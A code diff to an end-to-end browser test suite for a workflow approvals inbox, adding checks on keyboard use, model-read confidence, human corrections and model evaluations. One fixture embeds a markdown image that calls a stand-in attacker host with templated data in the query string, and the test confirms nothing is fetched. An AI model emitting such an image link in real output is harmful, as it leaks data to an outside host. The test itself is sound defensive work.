@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs';
 import type { Locator } from 'playwright-core';
 import { describe, expect, test } from 'vitest';
+import { evaluated } from '../screens/evaluated.ts';
 import { violationsOf } from '../support/axe.ts';
 import { chromiumPath } from '../support/browser.ts';
 import { clickCard } from '../support/canvas.ts';
@@ -36,7 +37,13 @@ describe.skipIf(chromiumPath === undefined)('the inbox', () => {
 
   test('is worked by keyboard alone: opened, answered, taken back, answered again, rejected, corrected', async () => {
     const { page } = desk;
-    const approval = aNode('ask', 'human.approval', 'Ask', { parameters: { title, evidence } });
+    // Nothing that a model or a document wrote is fetched, wherever it stands.
+    const strangers: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) strangers.push(request.url());
+    });
+    const message = '![x](https://evil.example/?q={{ $json.number }}) **Please look.**';
+    const approval = aNode('ask', 'human.approval', 'Ask', { parameters: { title, evidence, message: `=${message}` } });
     const { workflowId, runId } = await startRun(desk.product, aRow('Pay', [aStart(), approval]), [{ number: 1 }]);
     const second = await runAgain(desk.product, workflowId, [{ number: 2 }]);
     const form = aNode('ask', 'human.form', 'Correct', {
@@ -52,21 +59,30 @@ describe.skipIf(chromiumPath === undefined)('the inbox', () => {
         },
       },
     });
-    const third = await startRun(desk.product, aRow('Correct', [aStart(), form]), [{ total: 12, note: 'ok' }]);
+    const read = { fields: { total: '12' }, confidence: { total: 0.62 } };
+    const third = await startRun(desk.product, aRow('Correct', [aStart(), form]), [
+      { total: 12, note: 'ok', ai: read },
+    ]);
     const questions = await until(async () => {
       const items = await open();
       return items.length === 3 && items;
     });
     const of = (run: string) => questions.find((each) => each.runId === run) as Question;
 
-    await page.goto(`${desk.product.url}/approvals`);
-    await page.getByRole('grid', { name: 'Approvals' }).locator('[data-row]').nth(2).waitFor();
+    await page.goto(`${desk.product.url}/approvals?kind=form`);
+    const rows = page.getByRole('grid', { name: 'Approvals' }).locator('[data-row]');
+    await poll(() => rows.count()).toBe(1);
+    await page.getByRole('combobox', { name: 'Kind' }).click();
+    await page.getByRole('option', { name: 'All kinds' }).click();
+    await rows.nth(2).waitFor();
     const first = page.getByRole('link', { name: 'Pay invoice 1?' });
     await tabTo(first);
     await page.keyboard.press('Enter');
     await heading('Pay invoice 1?').waitFor();
     await page.getByRole('button', { name: /^Approve/ }).waitFor();
     await poll(() => page.getByRole('region', { name: 'What a model read' }).textContent()).toMatch(/62 %below 0.9/);
+    await page.getByText('Please look.').waitFor();
+    expect([await page.locator('main img').count(), strangers]).toEqual([0, []]);
     await desk.shot('approval');
     await page.keyboard.press('a');
     await page.getByText('It takes effect in').waitFor();
@@ -111,6 +127,13 @@ describe.skipIf(chromiumPath === undefined)('the inbox', () => {
     const changed = await page.getByRole('region', { name: 'What was changed' }).getByRole('row').allTextContents();
     expect(changed.toSorted()).toEqual(['FieldBeforeAfter', 'noteokchecked', 'total1213.5']);
     await desk.shot('form-answered');
+    // What people changed of what a model had read says how sure it has to be.
+    await page.goto(`${desk.product.url}/workflows/${third.workflowId}/evaluations`);
+    const people = page.getByRole('region', { name: 'What people changed' });
+    await poll(() => people.getByRole('row').allTextContents()).toEqual([
+      'SeenChangedSuggested threshold',
+      'total11 · 100%–',
+    ]);
     // What was answered counts without this page.
     await page.goto('about:blank');
     await reaches(desk.product, runId, 'succeeded');
@@ -137,6 +160,25 @@ describe.skipIf(chromiumPath === undefined)('the inbox', () => {
     await page.getByRole('button', { name: 'Undo' }).click();
     await page.getByText('Taken back: 2 of 2').first().waitFor();
     expect((await open()).length).toBe(2);
+  });
+
+  test('a step that asks a model shows how it does on examples, model by model, and where it is wrong', async () => {
+    const { page } = desk;
+    const { workflow, models } = await evaluated(desk.product);
+    await page.goto(`${desk.product.url}/workflows/${workflow}/evaluations`);
+    const compared = page.getByTestId('evaluations-compared');
+    await poll(() => compared.getByRole('button').count()).toBe(3);
+    const small = compared.getByRole('button', { name: /practice-small/ });
+    await small.click();
+    await poll(() => small.getAttribute('aria-pressed')).toBe('true');
+    await page.getByRole('heading', { name: /practice-small is, and how right/ }).waitFor();
+    await poll(() => compared.getByRole('row', { name: /^Whole examples right/ }).textContent()).toMatch(/\d+ of 40/);
+    await poll(() => page.getByRole('region', { name: 'Costs' }).getByRole('row').allTextContents()).toContainEqual(
+      expect.stringMatching(/^Read the invoice120/),
+    );
+    expect(await violationsOf(page)).toEqual([]);
+    await models.close();
+    expect(unexpected()).toEqual([]);
   });
 
   test('is complete on a phone, in both themes, by the rules of accessibility', async () => {
